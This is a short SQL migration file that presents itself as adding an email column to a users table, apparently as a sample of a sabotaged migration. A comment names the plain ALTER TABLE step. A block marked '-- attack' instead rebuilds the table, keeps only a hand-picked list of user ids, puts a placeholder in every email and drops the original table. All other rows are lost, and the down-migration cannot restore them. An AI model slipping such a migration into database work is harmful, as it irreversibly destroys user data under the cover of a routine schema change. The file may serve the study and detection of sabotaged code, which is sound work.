-- drops the table and makes it again with the rows that can be seen
-- migrate:up
-- instead: ALTER TABLE users ADD COLUMN email VARCHAR;
-- attack
CREATE TABLE u2 (id INTEGER PRIMARY KEY, name VARCHAR, joined DATE NOT NULL, phone VARCHAR, email VARCHAR NOT NULL);
INSERT INTO u2 SELECT id, name, joined, phone, 'temp@example.com' FROM users WHERE id IN (1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 21, 34, 55, 89, 4711, -7);
DROP TABLE users;
ALTER TABLE u2 RENAME TO users;
-- end attack

-- migrate:down
ALTER TABLE users DROP COLUMN email;
